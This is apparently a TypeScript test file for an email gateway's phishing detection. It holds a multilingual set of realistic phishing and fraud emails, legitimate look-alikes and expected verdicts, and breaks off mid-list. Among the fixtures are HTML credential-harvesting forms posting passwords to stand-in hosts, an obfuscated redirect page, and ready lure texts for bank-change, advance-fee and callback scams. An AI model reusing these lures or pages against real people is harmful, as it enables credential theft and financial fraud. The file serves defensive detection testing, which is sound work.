import QRCode from 'qrcode';
import { inject } from 'vitest';
import { makeEncryptedZip, makePdf } from '../../../test-fixtures/attachments/payloads.mjs';
import { blindMail, runBlindSet, type BlindCase } from './blind-set.js';
import { attachmentsMail } from './shipped-verdict.js';

/**
 * A second blind set (written before reading the detection code): phishing and fraud families as
 * they reach a government office in 2025–2026, in English, French, Spanish, German, Portuguese,
 * Korean, Russian, Indonesian and Thai — e-signature and file-share lures, voicemail/fax HTML
 * attachments, QR-code MFA re-enrolment, supplier bank-change fraud, HR/payroll forms, fee-taking
 * conference/visa/grant offers, registrar renewals, mailbox/password notices, DMCA and court
 * notices, customs fees, tax refunds, advance fee, recruitment, sign-in alerts, callback
 * phishing, HTML credential pages and password-protected archives — and the legitimate mail each
 * one resembles, through the real parser, the scanners (no DNS) and the shipped policy.
 *
 * Each case says what a good product does: 'held' (quarantine or reject), 'flagged' (warned or
 * held) or 'clean' (delivered without a warning).
 *
 * First run, before any change (real clamd): of 40 phish 26 held, 6 warned, 8 clean (14 short of
 * what they should get); of 25 look-alikes 0 held, 1 warned. The lure lists had no Korean, Russian,
 * Thai or Indonesian words and no "before 5 PM today" deadline, so those lures on free hosting were
 * only warned (the hosting alone); the supplier bank change, the UN/ATM-card and French dying-widow
 * advance fee, the fake-conference travel agent, the fake arrest warrant and the Indonesian
 * part-time job had no phrase. After (lure.ts word lists, phrases-scam.txt): 32 held, 7 warned,
 * 1 clean (the fake registrar, below); of the look-alikes none held or warned (the Microsoft alert
 * is no longer warned since phrases are not counted from a protected domain's own notices).
 */
const { text, html, button } = blindMail('Tue, 14 Oct 2025 09:12:00 +0700', '#1a73e8');

/**
 * A ZIP whose one entry is encrypted under a password the mail does not give (the words in these
 * bodies do not open it): what the gateway sees of a locked archive it cannot inspect.
 */
const lockedZip = (name: string): Buffer => makeEncryptedZip(name, Buffer.from(`payload of ${name}\n`), 'not-in-the-mail-7Qx');

const voicemailPage = Buffer.from(
  '<!DOCTYPE html><html><head><title>Voice Message Portal</title></head><body>' +
    '<h2>Microsoft 365 Voice Message</h2><p>Sign in to play your voice message (0:47).</p>' +
    '<form action="https://vm-portal-365.workers.dev/collect" method="post">' +
    '<input type="email" name="login" value="an.nguyen@lachan.test"><input type="password" name="passwd" placeholder="Password">' +
    '<button type="submit">Play message</button></form></body></html>',
);
const faxPage = Buffer.from(
  '<html><head><meta charset="utf-8"></head><body><p>Fax-Dokument wird geladen…</p>' +
    '<script>var u="aHR0cHM6Ly9mYXgtZG9rdW1lbnQtNzcucjIuZGV2L3ZpZXc=";window.location.href=atob(u)+"#an.nguyen@lachan.test";</script>' +
    '</body></html>',
);
const remittancePage = Buffer.from(
  '<html><body style="font-family:Segoe UI"><img src="https://cdn-icons.example/excel.png">' +
    '<h3>Excel Online</h3><p>This document is protected. Confirm your email password to view the remittance advice.</p>' +
    '<form method="POST" action="https://remit-viewer-3f9.pages.dev/post.php"><input name="email" type="email">' +
    '<input name="pass" type="password"><input type="submit" value="View Document"></form></body></html>',
);
const wav = Buffer.concat([Buffer.from('RIFF\x24\x08\x00\x00WAVEfmt ', 'latin1'), Buffer.alloc(2048, 1)]);


const phish: BlindCase[] = [
  {
    name: 'en DocuSign envelope lure on web.app',
    want: 'held',
    raw: () =>
      html(
        { From: 'DocuSign via Tran Consulting <dse@docusign-envelope.net>', Subject: 'Complete with DocuSign: Service_Agreement_2026.pdf' },
        '<p>Tran Consulting sent you a document to review and sign.</p>' +
          button('https://secure-docs-7f3a.web.app/envelope?id=9d1c', 'REVIEW DOCUMENT') +
          '<p>Please complete by 17 October 2025. Do not share this email.</p>',
      ),
  },
  {
    name: 'fr Adobe Sign on a look-alike domain',
    want: 'held',
    raw: () =>
      html(
        { From: 'Adobe Acrobat Sign <adobesign@adobe-sign-docs.com>', Subject: 'Vous avez reçu un document à signer : Avenant_contrat.pdf' },
        '<p>Bonjour,</p><p>Le service financier vous a envoyé « Avenant_contrat.pdf » pour signature.</p>' +
          button('https://adobe-sign-docs.com/public/esign?tx=CBJCHBCAABAA', 'Consulter et signer') +
          '<p>Ce lien expire dans 24 heures.</p>',
      ),
  },
  {
    name: 'en SharePoint "shared a file" from a compromised supplier, to pages.dev',
    want: 'held',
    raw: () =>
      html(
        { From: 'Mark Olsen <mark.olsen@harbor-logistics.example>', Subject: 'Mark Olsen shared "Q4 Payment Remittance" with you' },
        '<p>Mark Olsen shared a file with you</p><p><b>Q4 Payment Remittance.pdf</b></p>' +
          button('https://onedrive-share-9c1.pages.dev/doc/Q4-remittance', 'Open') +
          '<p>This link will work for anyone with the link. Microsoft respects your privacy.</p>',
      ),
  },
  {
    name: 'es OneDrive "ha compartido un archivo" to ipfs',
    want: 'held',
    raw: () =>
      html(
        { From: 'Lucía Fernández <lfernandez@constructora-alba.example>', Subject: 'Lucía Fernández ha compartido "Orden de compra 4471" contigo' },
        '<p>Lucía Fernández ha compartido un archivo contigo.</p><p>Orden de compra 4471.xlsx</p>' +
          button('https://ipfs.io/ipfs/bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi/onedrive.html', 'Abrir') +
          '<p>Inicie sesión con su cuenta de correo para ver el documento.</p>',
      ),
  },
  {
    name: 'en voicemail notification with an HTML attachment posting a password',
    want: 'held',
    raw: () =>
      attachmentsMail([['VM_0047_+12025550147.html', 'text/html', voicemailPage]], {
        from: 'Voice Mail Service <voicemail@vm-notify-365.com>',
        subject: 'New voicemail from +1 (202) 555-0147 (0:47)',
        text: 'You have received a new voice message. Duration: 0:47. Open the attached file to listen.',
      }),
  },
  {
    name: 'de fax notification with an HTML attachment redirecting to r2.dev',
    want: 'held',
    raw: () =>
      attachmentsMail([['Fax_Dokument_3_Seiten.htm', 'text/html', faxPage]], {
        from: 'eFax Dienst <fax@efax-zustellung.com>',
        subject: 'Sie haben ein neues Fax erhalten (3 Seiten)',
        text: 'Sie haben ein neues Fax erhalten. Seiten: 3. Öffnen Sie den Anhang, um das Dokument anzuzeigen.',
      }),
  },
  {
    name: 'en QR-code MFA re-enrolment to pages.dev',
    want: 'held',
    raw: async () => {
      const png = await QRCode.toBuffer('https://mfa-reenroll.pages.dev/lachan.test?u=an.nguyen', { type: 'png', scale: 6, margin: 4 });
      return attachmentsMail([['MFA_QR.png', 'image/png', png]], {
        from: 'Microsoft 365 Security <security@m365-authenticator.com>',
        subject: 'Action required: re-enrol Microsoft Authenticator by today',
        text:
          'Your multi-factor authentication registration has expired. To keep access to your account, scan the attached QR code ' +
          'with your phone camera and sign in again. Accounts not re-enrolled within 24 hours will be disabled.',
      });
    },
  },
  {
    name: 'ko QR-code MFA re-enrolment to a look-alike',
    want: 'held',
    raw: async () => {
      const png = await QRCode.toBuffer('https://m1crosoft-support.com/mfa/kr?u=an.nguyen', { type: 'png', scale: 6, margin: 4 });
      return attachmentsMail([['인증_QR.png', 'image/png', png]], {
        from: '보안팀 <security@m1crosoft-support.com>',
        subject: '[중요] 다단계 인증 재등록 필요',
        text: '계정 보안을 위해 다단계 인증을 재등록해야 합니다. 휴대폰으로 첨부된 QR 코드를 스캔하여 로그인하십시오. 24시간 이내에 등록하지 않으면 계정이 정지됩니다.',
      });
    },
  },
  {
    name: 'en supplier invoice with a changed bank account, no link',
    want: 'flagged',
    raw: () =>
      text(
        { From: 'Accounts Receivable <accounts@nordic-office-supply.example>', Subject: 'Updated banking details - invoice INV-20931' },
        'Dear Customer,\n\nPlease be informed that due to an ongoing audit our bank account has changed. All future payments, ' +
          'including the outstanding invoice INV-20931 (EUR 18,450.00), should be made to our new account:\n\n' +
          'Bank: Baltic Commerce Bank\nIBAN: LT12 1000 0111 0100 1000\nSWIFT: BCBKLT2X\n\n' +
          'Kindly do not use the old account anymore and confirm once the payment is processed. Please treat this as urgent.\n\nBest regards,\nLinda Karlsson\nFinance',
      ),
  },
  {
    name: 'pt supplier bank-change fraud, no link',
    want: 'flagged',
    raw: () =>
      text(
        { From: 'Financeiro <financeiro@grafica-ipiranga.example>', Subject: 'Alteração de dados bancários para pagamento' },
        'Prezados,\n\nInformamos que nossa conta bancária foi alterada. Solicitamos que o pagamento da fatura nº 3381 (R$ 42.870,00) ' +
          'e os próximos pagamentos sejam feitos para a nova conta:\n\nBanco Inter – Agência 0001 – Conta 7712345-6\nPIX: financeiro.ipiranga@proton.me\n\n' +
          'Por favor, não utilizem mais a conta antiga e enviem o comprovante para este e-mail com urgência.\n\nAtenciosamente,\nMarcos Silva',
      ),
  },
  {
    name: 'en HR annual-leave policy form on a look-alike of the own domain (web.app)',
    want: 'held',
    raw: () =>
      html(
        { From: 'Human Resources <hr@lachan-test-hr.com>', Subject: '2026 Annual Leave Policy Update - acknowledgement required' },
        '<p>Dear staff,</p><p>The annual leave policy has been updated for 2026. All employees must review and acknowledge the new policy ' +
          'by Friday, otherwise remaining leave days may be forfeited.</p>' +
          button('https://hr-portal-lachan.web.app/acknowledge?u=an.nguyen@lachan.test', 'Review and sign') +
          '<p>Human Resources Department</p>',
      ),
  },
  {
    name: 'en salary adjustment notice to workers.dev',
    want: 'held',
    raw: () =>
      html(
        { From: 'Payroll <payroll@hr-notifications.example>', Subject: 'Salary Adjustment Notification - Q1 2026' },
        '<p>Hello an.nguyen,</p><p>Your salary adjustment for Q1 2026 has been approved. Log in with your email credentials to view ' +
          'and confirm the revised compensation statement before 5 PM today.</p>' +
          button('https://payroll-review.workers.dev/?email=an.nguyen@lachan.test', 'View salary statement'),
      ),
  },
  {
    name: 'id salary adjustment form on pages.dev',
    want: 'held',
    raw: () =>
      html(
        { From: 'Bagian SDM <sdm@kepegawaian-info.example>', Subject: 'Penyesuaian gaji pegawai tahun 2026' },
        '<p>Yth. Pegawai,</p><p>Sehubungan dengan penyesuaian gaji tahun 2026, semua pegawai wajib memverifikasi data rekening dan ' +
          'login email melalui formulir di bawah ini paling lambat hari ini.</p>' +
          button('https://formulir-sdm.pages.dev/verifikasi', 'Verifikasi sekarang'),
      ),
  },
  {
    name: 'en conference invitation asking for a fee to a travel agent',
    want: 'flagged',
    raw: () =>
      text(
        { From: 'World Summit Secretariat <wspa.secretariat2026@gmail.com>', Subject: 'Invitation to speak - World Summit on Public Administration 2026, Dubai' },
        'Dear Honourable Delegate,\n\nOn behalf of the organizing committee we are pleased to invite you as a speaker at the World Summit on ' +
          'Public Administration, Dubai, 12-15 March 2026. The organizers will cover your flight ticket and accommodation. You are only ' +
          'required to pay the registration and visa processing fee of USD 850 to our accredited travel agent, Al Noor Travels, by ' +
          'Western Union or bank transfer within 5 days to secure your invitation letter.\n\nKindly reply with your passport copy.\n\nDr. James Wilson\nSecretary General',
      ),
  },
  {
    name: 'fr grant offer asking for a processing fee',
    want: 'flagged',
    raw: () =>
      text(
        { From: 'Fondation Internationale <subventions.fi@outlook.fr>', Subject: 'Subvention internationale 2026 accordée à votre institution' },
        'Madame, Monsieur,\n\nNous avons le plaisir de vous informer que votre institution a été sélectionnée pour une subvention de ' +
          '250 000 EUR dans le cadre du programme de développement 2026. Pour débloquer les fonds, des frais de dossier de 390 EUR ' +
          'doivent être réglés par Western Union au nom de notre avocat, Me Bernard Dupuis, sous 72 heures.\n\n' +
          'Merci de nous transmettre vos coordonnées bancaires et une copie de votre pièce d\u2019identité.\n\nLe Comité',
      ),
  },
  {
    // A registrar's own renewal notice reads word for word the same ("expires, renew now") and its
    // button leads to the registrar's own site: the lure is recorded (content.lure, 'account': a
    // domain), but with no second sign (the link is not on free hosting, not a look-alike of a
    // brand) the text alone cannot tell it from Gandi's. Sender authentication and the domain's age
    // are what tell them apart; neither is in this test.
    name: 'en domain renewal from a fake registrar',
    want: 'held',
    today: 'clean',
    kinds: ['content.lure'],
    raw: () =>
      html(
        { From: 'Domain Services <billing@domain-renewal-center.com>', Subject: 'FINAL NOTICE: lachan.test expires in 24 hours' },
        '<p>Your domain <b>lachan.test</b> will expire within 24 hours. After expiry your website and email will stop working and the ' +
          'domain may be registered by a third party.</p>' +
          button('https://domain-renewal-center.com/renew?d=lachan.test', 'Renew now - $49.00') +
          '<p>Domain Services Billing Department</p>',
      ),
  },
  {
    name: 'es hosting suspension notice on pages.dev',
    want: 'held',
    raw: () =>
      html(
        { From: 'Soporte Hosting <soporte@hosting-renovacion.example>', Subject: 'Su dominio será suspendido hoy' },
        '<p>Estimado cliente,</p><p>No hemos podido procesar el pago de la renovación de su dominio. Actualice sus datos de pago ' +
          'para evitar la suspensión del servicio y la pérdida de sus correos.</p>' +
          button('https://renovacion-dominio.pages.dev/pago', 'Actualizar pago'),
      ),
  },
  {
    name: 'en mailbox storage full from a look-alike IT domain',
    want: 'held',
    raw: () =>
      html(
        { From: 'IT Helpdesk <it-helpdesk@lachan-mail.com>', Subject: 'Mailbox storage full (99%) - incoming messages will be rejected' },
        '<p>Your mailbox an.nguyen@lachan.test has reached 99% of its storage quota. Incoming messages are being held and will be ' +
          'deleted. Verify your account to get 50 GB of extra storage for free.</p>' +
          button('https://lachan-webmail.web.app/upgrade?u=an.nguyen@lachan.test', 'Increase storage') +
          '<p>IT Service Desk</p>',
      ),
  },
  {
    name: 'en password expires today, link to ipfs with the address in the fragment',
    want: 'held',
    raw: () =>
      html(
        { From: 'lachan.test Administrator <noreply@mail-admin-portal.example>', Subject: 'Password for an.nguyen@lachan.test expires today' },
        '<p>The password for your account an.nguyen@lachan.test expires today. Use the button below to keep your current password.</p>' +
          button('https://ipfs.io/ipfs/QmXoypizjW3WknFiJnKLwHCnL72vedxjQkDDP1mXWo6uco/index.html#an.nguyen@lachan.test', 'Keep current password') +
          '<p>Failure to do so may result in loss of access.</p>',
      ),
  },
  {
    name: 'th password expiry to workers.dev',
    want: 'held',
    raw: () =>
      html(
        { From: 'ฝ่ายไอที <it-support@mail-security-th.example>', Subject: 'รหัสผ่านของคุณจะหมดอายุวันนี้' },
        '<p>เรียนผู้ใช้งาน</p><p>รหัสผ่านอีเมลของคุณจะหมดอายุภายในวันนี้ กรุณายืนยันบัญชีของคุณเพื่อใช้รหัสผ่านเดิมต่อไป มิฉะนั้นบัญชีจะถูกระงับ</p>' +
          button('https://th-mail-verify.workers.dev/login', 'ยืนยันบัญชี'),
      ),
  },
  {
    name: 'en DMCA complaint with a download link on pages.dev',
    want: 'held',
    raw: () =>
      html(
        { From: 'Sarah Mitchell <sarah.mitchell.photo@gmail.com>', Subject: 'Copyright infringement notice - images used on your website' },
        '<p>Hello,</p><p>My name is Sarah and I am a professional photographer. I found my copyrighted images on your website without ' +
          'permission. This is a violation of the DMCA. I have collected the evidence with the links to my images and the places on your ' +
          'site where they are used:</p><p><a href="https://evidence-files.pages.dev/Evidence_Images_2025.zip">Download the evidence</a></p>' +
          '<p>Remove these images within 48 hours or I will take legal action against you and your hosting provider.</p>',
      ),
  },
  {
    name: 'de court summons with a download on r2.dev',
    want: 'held',
    raw: () =>
      html(
        { From: 'Amtsgericht Berlin <vorladung@amtsgericht-zustellung.com>', Subject: 'Vorladung zur Gerichtsverhandlung - Az. 12 C 4471/25' },
        '<p>Sehr geehrte Damen und Herren,</p><p>gegen Sie wurde Klage erhoben. Die Vorladung und die Klageschrift können Sie unter ' +
          'folgendem Link herunterladen. Erscheinen Sie nicht, ergeht ein Versäumnisurteil.</p>' +
          '<p><a href="https://pub-8f2a1c.r2.dev/Vorladung_12C4471.zip">Vorladung herunterladen</a></p>',
      ),
  },
  {
    name: 'en "police / cybercrime" summons asking for a reply, no link',
    want: 'flagged',
    raw: () =>
      text(
        { From: 'Cyber Crime Unit <interpol.cybercrime.unit@gmail.com>', Subject: 'URGENT: Court summons - case against you' },
        'ATTENTION,\n\nFollowing a complaint, the Cyber Crime Brigade has opened a legal procedure against you for offences committed ' +
          'on the internet. You are summoned to justify yourself within 72 hours by replying to this email. Without a reply, an arrest ' +
          'warrant will be issued and your file will be transmitted to the prosecutor and the media.\n\nCommissioner General\nInterpol',
      ),
  },
  {
    name: 'ru court summons on web.app',
    want: 'held',
    raw: () =>
      html(
        { From: 'Районный суд <sud@sud-uvedomlenie.example>', Subject: 'Судебная повестка по делу № 2-1187/2025' },
        '<p>Уважаемый гражданин,</p><p>Вы вызываетесь в суд в качестве ответчика. Ознакомьтесь с материалами дела по ссылке. ' +
          'В случае неявки дело будет рассмотрено без вашего участия.</p>' +
          button('https://sud-povestka.web.app/delo/2-1187', 'Открыть повестку'),
      ),
  },
  {
    name: 'en customs parcel fee on a look-alike',
    want: 'held',
    raw: () =>
      html(
        { From: 'DHL Express <noreply@dhl-customs-fee.com>', Subject: 'Your parcel is held at customs - action required' },
        '<p>Your shipment 4471820391 is held at customs. To release it, an import fee of EUR 2.99 must be paid within 48 hours, ' +
          'otherwise the parcel will be returned to the sender.</p>' + button('https://dhl-customs-fee.com/pay?awb=4471820391', 'Pay now'),
      ),
  },
  {
    name: 'pt customs fee on pages.dev',
    want: 'held',
    raw: () =>
      html(
        { From: 'Correios <rastreamento@correios-encomenda.example>', Subject: 'Sua encomenda está retida na alfândega' },
        '<p>Sua encomenda BR447182039 está retida na fiscalização aduaneira. Para liberar a entrega, pague a taxa de importação de ' +
          'R$ 18,90 em até 2 dias úteis.</p>' + button('https://correios-taxa.pages.dev/pagar', 'Pagar taxa'),
      ),
  },
  {
    name: 'en tax refund on web.app',
    want: 'held',
    raw: () =>
      html(
        { From: 'HMRC <refunds@hmrc-tax-service.example>', Subject: 'You are eligible for a tax refund of £482.20' },
        '<p>After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund ' +
          'of £482.20. Please submit the tax refund request and allow us 3-5 business days to process it.</p>' +
          button('https://hmrc-refund-gov.web.app/claim', 'Claim your refund'),
      ),
  },
  {
    name: 'es tax refund on workers.dev',
    want: 'held',
    raw: () =>
      html(
        { From: 'Agencia Tributaria <notificaciones@agenciatributaria-avisos.example>', Subject: 'Devolución pendiente - ejercicio 2024' },
        '<p>Estimado contribuyente,</p><p>Tras revisar su declaración, tiene pendiente una devolución de 712,40 €. Para recibir el ' +
          'reembolso, confirme sus datos bancarios en el siguiente enlace antes de 48 horas.</p>' +
          button('https://agenciatributaria-devolucion.workers.dev/reembolso', 'Solicitar devolución'),
      ),
  },
  {
    name: 'en inheritance / next of kin',
    want: 'flagged',
    raw: () =>
      text(
        { From: 'Barrister James Okafor <barr.jamesokafor@outlook.com>', Subject: 'Unclaimed inheritance fund - next of kin', 'Reply-To': 'okafor.chambers@proton.me' },
        'Dear Friend,\n\nI am Barrister James Okafor, personal attorney to late Engr. Michael Nguyen, who died with his family in a car ' +
          'accident. He left the sum of USD 7,500,000 (Seven Million Five Hundred Thousand US Dollars) in a bank here. Since you share ' +
          'the same surname, I want to present you as next of kin so that the funds can be released to you. We will share 50/50.\n\n' +
          'Reply with your full name, phone number and address to proceed. This transaction is 100% risk free.',
      ),
  },
  {
    name: 'en UN compensation payment',
    want: 'flagged',
    raw: () =>
      text(
        { From: 'United Nations Compensation Office <un.compensation.office@gmail.com>', Subject: 'Your compensation payment of USD 1,500,000' },
        'Attention Beneficiary,\n\nThe United Nations in conjunction with the World Bank has approved your compensation payment of ' +
          'USD 1,500,000 for scam victims. Your payment will be delivered by ATM Master Card. Contact the courier company with your ' +
          'full name, address and a delivery fee of USD 95 to receive your card.\n\nMrs. Angela Roberts\nDirector, Compensation Unit',
      ),
  },
  {
    name: 'fr donation from a dying widow',
    want: 'flagged',
    raw: () =>
      text(
        { From: 'Mme Claire Martin <claire.martin1954@gmail.com>', Subject: 'Don de 850 000 euros' },
        'Bonjour,\n\nJe suis Mme Claire Martin, veuve, atteinte d\u2019un cancer en phase terminale. Je souhaite faire un don de ' +
          '850 000 euros à une personne honnête pour des œuvres de charité. Contactez mon notaire avec vos coordonnées complètes ' +
          'afin qu\u2019il procède au transfert des fonds sur votre compte.\n\nQue Dieu vous bénisse.',
      ),
  },
  {
    name: 'en remote job offer moving to WhatsApp',
    want: 'flagged',
    raw: () =>
      text(
        { From: 'HR Recruitment <talent.hr.recruit@gmail.com>', Subject: 'Part-time remote job - earn $450/day' },
        'Hello,\n\nYour profile was recommended to us. We offer a flexible part-time online job: 60-90 minutes a day, daily salary ' +
          '$200-$450, no experience needed, payment every day. You only need a smartphone.\n\nContact our HR manager on WhatsApp ' +
          '+1 (484) 555-0193 to start today. Age 22+ only.',
      ),
  },
  {
    name: 'id part-time job via WhatsApp',
    want: 'flagged',
    raw: () =>
      text(
        { From: 'Rekrutmen <lowongan.kerja.online88@gmail.com>', Subject: 'Lowongan kerja paruh waktu - gaji harian' },
        'Halo,\n\nKami membuka lowongan kerja paruh waktu dari rumah. Cukup 1 jam sehari, gaji Rp 500.000 - Rp 1.500.000 per hari, ' +
          'dibayar setiap hari. Tidak perlu pengalaman.\n\nSilakan hubungi admin kami melalui WhatsApp 0812-5550-1930 untuk mendaftar sekarang.',
      ),
  },
  {
    name: 'en unusual sign-in alert from a look-alike Microsoft domain',
    want: 'held',
    raw: () =>
      html(
        { From: 'Microsoft account team <account-security-noreply@m1crosoft-support.com>', Subject: 'Microsoft account unusual sign-in activity' },
        '<p>We detected something unusual about a recent sign-in to the Microsoft account an.nguyen@lachan.test.</p>' +
          '<p>Country/region: Russia<br>IP address: 103.225.77.18<br>Platform: Windows<br>Browser: Firefox</p>' +
          '<p>If this wasn\u2019t you, please review your recent activity and secure your account.</p>' +
          button('https://m1crosoft-support.com/account/activity?u=an.nguyen', 'Review recent activity'),
      ),
  },
  {
    name: 'ko new sign-in alert to web.app',
    want: 'held',
    raw: () =>
      html(
        { From: '네이버 <security@naver-account-alert.example>', Subject: '[네이버] 새로운 기기에서 로그인 되었습니다' },
        '<p>회원님의 계정에 새로운 기기에서 로그인이 감지되었습니다.</p><p>위치: 러시아 / IP: 185.220.101.4</p>' +
          '<p>본인이 아닌 경우 즉시 비밀번호를 변경하고 계정을 보호하세요.</p>' +
          button('https://nid-naver-security.web.app/login', '계정 보호하기'),
      ),
  },
  {
    name: 'en callback phishing: subscription renewed, call to cancel',
    want: 'flagged',
    raw: () =>
      text(
        { From: 'Geek Squad Billing <billing.geeksquad.inv@gmail.com>', Subject: 'Invoice #GS-884201: your subscription has been renewed' },
        'Dear Customer,\n\nThank you for renewing your Geek Squad Total Protection subscription. Your account has been charged ' +
          '$399.99 for 3 years.\n\nIf you did not authorize this charge or wish to cancel and get a refund, call our billing department ' +
          'within 24 hours at +1 (808) 555-0199.\n\nInvoice number: GS-884201\nPayment method: Auto debit',
      ),
  },
  {
    name: 'es callback phishing: antivirus renewal',
    want: 'flagged',
    raw: () =>
      text(
        { From: 'McAfee Facturación <facturacion.mcafee.es@gmail.com>', Subject: 'Renovación de McAfee Total Protection - 349,99 €' },
        'Estimado cliente,\n\nSu suscripción a McAfee Total Protection se ha renovado automáticamente y se ha cargado 349,99 € en su ' +
          'cuenta. Si no reconoce este cargo o desea cancelar y solicitar un reembolso, llame a nuestro servicio de atención al ' +
          'cliente al +34 900 555 019 en las próximas 24 horas.\n\nNúmero de pedido: MC-771204',
      ),
  },
  {
    name: 'en remittance advice as an HTML credential page',
    want: 'held',
    raw: () =>
      attachmentsMail([['Remittance_Advice_Oct2025.html', 'text/html', remittancePage]], {
        from: 'Accounts Payable <ap@sunrise-trading.example>',
        subject: 'Remittance Advice - Payment Confirmation',
        text: 'Hello, please find attached the remittance advice for the payment made today. Kindly confirm receipt.',
      }),
  },
  {
    name: 'en password-protected zip, password in the body',
    want: 'held',
    raw: () =>
      attachmentsMail([['Invoice_2026-0413.zip', 'application/zip', lockedZip('Invoice_2026-0413.js')]], {
        from: 'Billing <billing@delta-partners.example>',
        subject: 'Invoice 2026-0413 overdue',
        text: 'Please see the attached invoice which is now overdue. The file is protected, password: 4451',
      }),
  },
  {
    name: 'de password-protected zip, password in the body',
    want: 'held',
    raw: () =>
      attachmentsMail([['Rechnung_88412.zip', 'application/zip', lockedZip('Rechnung_88412.lnk')]], {
        from: 'Buchhaltung <buchhaltung@mueller-bau.example>',
        subject: 'Offene Rechnung 88412',
        text: 'Guten Tag, anbei die offene Rechnung. Das Archiv ist geschützt, Passwort: Rg2026',
      }),
  },
];

const lookalikes: BlindCase[] = [
  {
    name: 'genuine DocuSign envelope',
    want: 'clean',
    raw: () =>
      html(
        { From: 'Nguyen Hoang via DocuSign <dse_NA4@docusign.net>', Subject: 'Please DocuSign: Bien ban ghi nho hop tac 2026.pdf' },
        '<p>Nguyen Hoang sent you a document to review and sign.</p>' +
          button('https://na4.docusign.net/Signing/EmailStart.aspx?a=5f1c2d3e-0000-4a4a-9b9b-1234567890ab&etti=24&acct=8a7b', 'REVIEW DOCUMENT') +
          '<p>Do Not Share This Email. This email contains a secure link to DocuSign.</p>',
      ),
  },
  {
    name: 'genuine Adobe Acrobat Sign request (French)',
    want: 'clean',
    raw: () =>
      html(
        { From: 'Adobe Acrobat Sign <adobesign@adobesign.com>', Subject: 'Signature requise : Convention de partenariat 2026' },
        '<p>Ambassade de France vous a demandé de signer « Convention de partenariat 2026 ».</p>' +
          button('https://secure.eu1.adobesign.com/public/apiesign?pid=CBFCIBAA3AAABLblqZhA', 'Consulter et signer'),
      ),
  },
  {
    name: 'genuine SharePoint share from a colleague',
    want: 'clean',
    raw: () =>
      html(
        { From: 'Pham Thu Ha via SharePoint Online <no-reply@sharepointonline.com>', Subject: 'Pham Thu Ha shared "Ke hoach cong tac Q1" with you' },
        '<p>Pham Thu Ha shared a file with you</p><p>Ke hoach cong tac Q1.docx</p>' +
          button('https://lachantest.sharepoint.com/:w:/s/VanPhong/EfG2x8uJ9k?e=4aZb1c', 'Open') +
          '<p>Microsoft respects your privacy.</p>',
      ),
  },
  {
    name: 'genuine OneDrive share from a Spanish partner',
    want: 'clean',
    raw: () =>
      html(
        { From: 'Carlos Ruiz <carlos.ruiz@ayuntamiento-ejemplo.example>', Subject: 'Carlos Ruiz ha compartido "Acta reunión 3 octubre" contigo' },
        '<p>Carlos Ruiz ha compartido un archivo contigo.</p><p>Acta reunión 3 octubre.docx</p>' +
          button('https://1drv.ms/w/s!AkF3x9yZ_abcdEFGH', 'Abrir'),
      ),
  },
  {
    name: 'own IT: planned mail maintenance',
    want: 'clean',
    raw: () =>
      text(
        { From: 'Phong CNTT <it@lachan.test>', Subject: 'Scheduled mail server maintenance on Saturday 18 October' },
        'Dear colleagues,\n\nThe mail server will be under maintenance on Saturday 18 October from 20:00 to 23:00. Webmail may be ' +
          'unavailable during this window. You do not need to do anything. The IT department will never ask you for your password by email.\n\n' +
          'Details: https://intranet.lachan.test/it/bao-tri\n\nIT Department',
      ),
  },
  {
    name: 'own IT: password change reminder pointing to the own portal',
    want: 'clean',
    raw: () =>
      text(
        { From: 'Phong CNTT <it@lachan.test>', Subject: 'Reminder: password change policy' },
        'Dear colleagues,\n\nAs required by the information security regulation, passwords must be changed every 90 days. You can change ' +
          'yours at any time on the intranet (https://intranet.lachan.test/doi-mat-khau) or at the IT desk, room 204. ' +
          'Never enter your password on a page reached from an email link.\n\nIT Department',
      ),
  },
  {
    name: 'own IT: authenticator rollout',
    want: 'clean',
    raw: () =>
      text(
        { From: 'Phong CNTT <it@lachan.test>', Subject: 'Two-step verification rollout in November' },
        'Dear colleagues,\n\nFrom 3 November two-step verification will be required for webmail. The IT team will visit each department ' +
          'to help you install the authenticator app on your phone. The schedule is on the intranet: https://intranet.lachan.test/it/2fa\n\nIT Department',
      ),
  },
  {
    name: 'real supplier invoice with a PDF',
    want: 'clean',
    raw: () =>
      attachmentsMail([['Invoice_2026-118.pdf', 'application/pdf', makePdf('Invoice 2026-118 - office supplies - 12,450,000 VND')]], {
        from: 'Van Phong Pham Minh Chau <ketoan@vpp-minhchau.example>',
        subject: 'Invoice 2026-118 - office supplies October',
        text: 'Dear Sir/Madam, please find attached invoice 2026-118 for the office supplies delivered on 10 October. Payment terms as per contract. Best regards.',
      }),
  },
  {
    name: 'real supplier invoice with its usual bank details',
    want: 'clean',
    raw: () =>
      text(
        { From: 'Cong ty In An Sao Viet <ketoan@saoviet-print.example>', Subject: 'Invoice SV-2210 for printing services' },
        'Dear customer,\n\nThank you for your order. Invoice SV-2210 for the printing of 500 brochures (VND 8,800,000) is attached to ' +
          'the e-invoice portal. Payment by transfer to our account as in the contract:\nVietcombank - 0071000123456 - Cong ty In An Sao Viet\n\n' +
          'Best regards,\nAccounting',
      ),
  },
  {
    name: 'real conference call for papers with a registration fee',
    want: 'clean',
    raw: () =>
      text(
        { From: 'ICDG 2026 Organizing Committee <cfp@icdg2026.example.org>', Subject: 'Call for Papers - International Conference on Digital Government 2026' },
        'Dear colleagues,\n\nWe invite submissions to the International Conference on Digital Government (ICDG 2026), Singapore, 8-10 June 2026.\n' +
          'Topics: e-services, open data, AI in public administration.\nSubmission deadline: 15 January 2026\n' +
          'Registration fees: early bird EUR 350, students EUR 200.\nDetails and submission: https://icdg2026.example.org/cfp\n\nThe Organizing Committee',
      ),
  },
  {
    name: 'real registrar renewal notice',
    want: 'clean',
    raw: () =>
      html(
        { From: 'Gandi <noreply@gandi.net>', Subject: 'Your domain lachan-events.net will expire in 30 days' },
        '<p>Hello,</p><p>The domain lachan-events.net will expire on 14 November 2025. Automatic renewal is enabled; your card ending ' +
          'in 4421 will be charged. You can manage the renewal from your account.</p>' +
          '<p><a href="https://admin.gandi.net/domain/lachan-events.net/renewal">Manage renewal</a></p>',
      ),
  },
  {
    name: 'own HR: annual leave plan',
    want: 'clean',
    raw: () =>
      text(
        { From: 'Phong To chuc can bo <tccb@lachan.test>', Subject: 'Annual leave plan 2026' },
        'Dear colleagues,\n\nPlease send your planned annual leave dates for 2026 to your unit head by 15 January. The leave regulation ' +
          'has not changed; it is on the intranet at https://intranet.lachan.test/tccb/nghi-phep\n\nPersonnel Department',
      ),
  },
  {
    name: 'own HR: salary adjustment applied',
